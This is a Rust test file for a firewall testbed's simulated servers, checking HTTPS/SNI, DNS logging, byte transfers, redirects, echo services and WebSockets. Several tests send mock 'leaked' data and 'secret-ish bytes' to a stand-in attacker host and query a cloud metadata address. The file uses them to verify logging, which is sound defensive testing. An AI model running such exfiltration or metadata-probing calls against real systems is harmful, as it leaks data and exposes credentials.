//! Privileged tests of the test world's upstream servers, DNS and logs (run as root).

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Result, bail};
use palisade_testbed::addrs::*;
use palisade_testbed::{Kind, LogEntry, Transport, World};

mod common;
use common::{curl_json, ok};

#[test]
fn https_http1_and_h2_from_fw_with_sni_and_headers() -> Result<()> {
    let world = World::new()?;
    let ca = world.test_ca_path().to_string_lossy().into_owned();
    let resolve = format!("alpha.test:443:{GOOD_V4}");
    let j = curl_json(
        &world.fw,
        &[
            "--http1.1",
            "--cacert",
            &ca,
            "--resolve",
            &resolve,
            "-H",
            "X-Dup: one",
            "-H",
            "X-Dup: two",
            "-H",
            "Authorization: Bearer sandbox-token",
            "https://alpha.test/some/path?q=1",
        ],
    )?;
    assert_eq!(j["server"], "good");
    assert_eq!(j["sni"], "alpha.test");
    assert_eq!(j["host"], "alpha.test");
    assert_eq!(j["version"], "HTTP/1.1");
    assert_eq!(j["path"], "/some/path");
    assert_eq!(j["query"], "q=1");
    assert_eq!(j["header_map"]["x-dup"], serde_json::json!(["one", "two"]));
    assert_eq!(
        j["header_map"]["authorization"],
        serde_json::json!(["Bearer sandbox-token"])
    );
    let names: Vec<&str> = j["headers"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|h| h[0].as_str())
        .collect();
    assert!(names.contains(&"user-agent") && names.iter().filter(|n| **n == "x-dup").count() == 2);

    let h2 = curl_json(
        &world.fw,
        &[
            "--http2",
            "--cacert",
            &ca,
            "--resolve",
            &resolve,
            "https://alpha.test/",
        ],
    )?;
    assert_eq!(h2["version"], "HTTP/2.0");
    assert_eq!(h2["sni"], "alpha.test");
    assert_eq!(h2["host"], "alpha.test");

    // A name under the wildcard, two labels deep, also gets a valid certificate.
    let deep = format!("a.b.wild.test:443:{GOOD_V4}");
    let w = curl_json(
        &world.fw,
        &[
            "--cacert",
            &ca,
            "--resolve",
            &deep,
            "https://a.b.wild.test/",
        ],
    )?;
    assert_eq!(w["sni"], "a.b.wild.test");

    let good = world.log().for_server("good");
    let snis: Vec<&str> = good
        .iter()
        .filter(|e| e.kind == Kind::TlsSni)
        .map(|e| e.detail.as_str())
        .collect();
    assert!(
        snis.iter()
            .any(|d| d.starts_with("sni=alpha.test ") && d.contains("h2")),
        "{snis:?}"
    );
    assert_eq!(
        good.iter().filter(|e| e.kind == Kind::HttpRequest).count(),
        3
    );
    assert!(
        good.iter()
            .any(|e| e.kind == Kind::HttpRequest && e.detail.contains("x-dup: two"))
    );
    world.assert_untouched("attacker");
    Ok(())
}

#[test]
fn unknown_sni_fails_but_is_logged_by_the_attacker() -> Result<()> {
    let world = World::new()?;
    let ca = world.test_ca_path().to_string_lossy().into_owned();
    let resolve = format!("unknown.test:443:{ATTACKER_V4}");
    let out = world.fw.run(
        "curl",
        [
            "-sS",
            "-m",
            "10",
            "--cacert",
            &ca,
            "--resolve",
            &resolve,
            "https://unknown.test/",
        ],
    )?;
    assert!(!out.status.success());
    assert!(!world.log().is_untouched("attacker"));
    assert!(world.wait_for(Duration::from_secs(5), |l| {
        l.iter().any(|e| e.detail.contains("sni=unknown.test"))
    }));
    Ok(())
}

#[test]
fn dns_answers_from_fw_and_logs_every_query() -> Result<()> {
    let world = World::new()?;
    let dig = |args: &[&str]| -> Result<String> {
        let mut all = vec!["+time=2", "+tries=1", "@198.51.100.53"];
        all.extend_from_slice(args);
        ok(&world.fw, "dig", &all)
    };
    assert_eq!(dig(&["+short", "alpha.test"])?.trim(), GOOD_V4.to_string());
    assert_eq!(
        dig(&["+short", "+tcp", "AAAA", "v6only.test"])?.trim(),
        V6_HOST.to_string()
    );
    assert!(dig(&["nope.test"])?.contains("status: NXDOMAIN"));
    let alias = dig(&["+short", "alias.test"])?;
    assert_eq!(
        alias.lines().collect::<Vec<_>>(),
        ["alpha.test.", "198.51.100.10"]
    );
    world.dns().set_a("alpha.test", &[ATTACKER_V4, ECHO_V4]);
    let mut now: Vec<String> = dig(&["+short", "alpha.test"])?
        .lines()
        .map(str::to_owned)
        .collect();
    now.sort();
    assert_eq!(now, [ATTACKER_V4.to_string(), ECHO_V4.to_string()]);
    world.dns().remove("alpha.test");
    assert!(dig(&["ALPHA.test"])?.contains("status: NXDOMAIN"));

    let q = world.log().dns_queries();
    let seen: Vec<(String, String, Transport)> = q
        .iter()
        .map(|q| (q.name.clone(), q.qtype.clone(), q.transport))
        .collect();
    assert_eq!(seen[0], ("alpha.test.".into(), "A".into(), Transport::Udp));
    assert_eq!(
        seen[1],
        ("v6only.test.".into(), "AAAA".into(), Transport::Tcp)
    );
    assert!(seen.iter().any(|(n, _, _)| n == "nope.test."));
    assert!(
        seen.iter().any(|(n, _, _)| n == "ALPHA.test."),
        "case kept as received: {seen:?}"
    );
    assert_eq!(q.len(), 6);
    assert!(q.iter().all(|q| q.peer.ip() == FW_UPLINK_V4));
    Ok(())
}

#[test]
fn bytes_arrive_byte_exact_and_uploads_hash() -> Result<()> {
    let world = World::new()?;
    let dir = tempfile::tempdir()?;
    let file = dir.path().join("bytes");
    let file_s = file.to_string_lossy().into_owned();
    ok(
        &world.fw,
        "curl",
        &[
            "-sS",
            "--fail",
            "-m",
            "30",
            "-o",
            &file_s,
            "http://198.51.100.10/bytes/1048576",
        ],
    )?;
    let got = std::fs::read(&file)?;
    assert_eq!(got.len(), 1_048_576);
    assert!(
        got == palisade_testbed::pattern(1_048_576),
        "payload differs from the pattern"
    );

    let up = curl_json(
        &world.fw,
        &[
            "--data-binary",
            &format!("@{file_s}"),
            "http://198.51.100.10/upload",
        ],
    )?;
    assert_eq!(up["len"], 1_048_576);
    use sha2::Digest;
    let want: String = sha2::Sha256::digest(&got)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert_eq!(up["sha256"], want);
    assert!(
        ok(
            &world.fw,
            "curl",
            &["-sS", "-m", "10", "http://198.51.100.10/bytes/x"]
        )
        .is_ok()
    );
    Ok(())
}

#[test]
fn sse_redirect_and_special_hosts() -> Result<()> {
    let world = World::new()?;
    let sse = ok(
        &world.fw,
        "curl",
        &[
            "-sS",
            "-N",
            "-m",
            "10",
            "http://198.51.100.10/sse?n=3&ms=50",
        ],
    )?;
    assert_eq!(sse.matches("data: event").count(), 3, "{sse}");
    let head = ok(
        &world.fw,
        "curl",
        &[
            "-sS",
            "-m",
            "10",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code} %{redirect_url}",
            "http://198.51.100.10/redirect",
        ],
    )?;
    assert_eq!(head, "302 http://evil.test/");
    let h2c = curl_json(
        &world.fw,
        &["--http2-prior-knowledge", "http://198.51.100.10/"],
    )?;
    assert_eq!(h2c["version"], "HTTP/2.0");
    let posted = curl_json(
        &world.fw,
        &["--data-binary", "leaked=1", "http://198.51.100.11/collect"],
    )?;
    assert_eq!(posted["body_len"], 8);
    assert_eq!(
        world.log().bytes_received("attacker"),
        b"leaked=1",
        "the attacker logs bodies"
    );
    for (url, server) in [
        ("http://198.51.100.20/", "echo"),
        ("http://10.99.0.10/", "private"),
        ("http://169.254.169.254/latest/meta-data/", "metadata"),
        ("http://[2001:db8::10]/", "v6"),
        ("http://198.51.100.11/", "attacker"),
    ] {
        let j = curl_json(&world.fw, &["-g", url])?;
        assert_eq!(j["server"], server, "{url}");
    }
    Ok(())
}

#[test]
fn tcp_udp_echo_banner_and_sinks_through_fw_runtime() -> Result<()> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let world = World::new()?;
    let rt = world.fw.runtime()?;
    // Sockets must be made on the runtime's threads (in fw), hence spawn.
    let task = rt.spawn(async move {
        let tcp_echo = SocketAddr::new(TCP_V4.into(), 7);
        let mut s = tokio::net::TcpStream::connect(tcp_echo).await?;
        s.write_all(b"ping over tcp").await?;
        let mut buf = [0u8; 13];
        s.read_exact(&mut buf).await?;
        assert_eq!(&buf, b"ping over tcp");

        let udp = tokio::net::UdpSocket::bind("0.0.0.0:0").await?;
        udp.send_to(b"ping over udp", SocketAddr::new(TCP_V4.into(), 7))
            .await?;
        let mut ubuf = [0u8; 64];
        let (n, from) =
            tokio::time::timeout(Duration::from_secs(5), udp.recv_from(&mut ubuf)).await??;
        assert_eq!(&ubuf[..n], b"ping over udp");
        assert_eq!(from, SocketAddr::new(TCP_V4.into(), 7));

        let mut ssh = tokio::net::TcpStream::connect(SocketAddr::new(TCP_V4.into(), 22)).await?;
        let mut banner = vec![0u8; SSH_BANNER.len()];
        ssh.read_exact(&mut banner).await?;
        assert_eq!(banner, SSH_BANNER);

        let mut sink =
            tokio::net::TcpStream::connect(SocketAddr::new(ATTACKER_V4.into(), 5432)).await?;
        sink.write_all(b"secret-ish bytes").await?;
        sink.shutdown().await?;
        let udp2 = tokio::net::UdpSocket::bind("0.0.0.0:0").await?;
        udp2.send_to(b"quic?", SocketAddr::new(ATTACKER_V4.into(), 443))
            .await?;
        Ok::<_, anyhow::Error>(())
    });
    rt.block_on(task)??;
    assert!(world.wait_for(
        Duration::from_secs(5),
        |_| world.log().bytes_received("attacker").len() == 21
    ));
    let attacker = world.log().for_server("attacker");
    let tcp: Vec<u8> = attacker
        .iter()
        .filter(|e| e.kind == Kind::Bytes)
        .flat_map(|e| e.data.clone())
        .collect();
    assert_eq!(tcp, b"secret-ish bytes");
    let udp: Vec<&LogEntry> = attacker.iter().filter(|e| e.kind == Kind::Udp).collect();
    assert_eq!(udp.len(), 1);
    assert_eq!(udp[0].data, b"quic?");
    assert_eq!(udp[0].local, SocketAddr::new(ATTACKER_V4.into(), 443));
    assert!(
        world
            .log()
            .for_server("tcp")
            .iter()
            .any(|e| e.kind == Kind::Udp)
    );
    let caught = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        world.assert_untouched("attacker")
    }));
    let msg = caught
        .err()
        .and_then(|p| p.downcast_ref::<String>().cloned())
        .unwrap_or_default();
    assert!(
        msg.contains("secret-ish bytes"),
        "panic message lists the log: {msg}"
    );
    drop(rt);
    Ok(())
}

#[test]
fn websocket_echo() -> Result<()> {
    use futures_util::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::Message;
    let world = World::new()?;
    let rt = world.fw.runtime()?;
    let task = rt.spawn(async move {
        let tcp = tokio::net::TcpStream::connect(SocketAddr::new(GOOD_V4.into(), 80)).await?;
        let (mut ws, _) = tokio_tungstenite::client_async("ws://alpha.test/ws", tcp).await?;
        ws.send(Message::text("hello ws")).await?;
        let reply = tokio::time::timeout(Duration::from_secs(5), ws.next()).await?;
        match reply {
            Some(Ok(Message::Text(t))) => assert_eq!(t.as_str(), "hello ws"),
            other => bail!("unexpected reply {other:?}"),
        }
        ws.close(None).await?;
        Ok(())
    });
    rt.block_on(task)??;
    Ok(())
}
